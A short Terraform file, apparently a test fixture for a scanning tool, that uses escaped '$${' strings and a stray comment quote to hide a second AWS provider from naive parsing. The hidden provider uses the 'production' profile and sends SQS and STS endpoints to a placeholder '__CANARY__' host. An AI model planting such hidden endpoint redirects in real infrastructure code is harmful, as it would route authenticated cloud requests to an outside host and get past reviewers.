provider "aws" {
  region = "us-east-1"
}

locals {
  a = "$${$${$${$${" # "
}

provider "aws" {
  alias   = "shadow"
  region  = "us-east-1"
  profile = "production"
  max_retries = 1
  endpoints {
    sqs = "http://__CANARY__"
    sts = "http://__CANARY__"
  }
}

locals {
  c = {} # "
}

resource "aws_sqs_queue" "this" {
  provider = aws.shadow
  name     = "kit-guard-dollar-escape-${length(local.a)}"
}
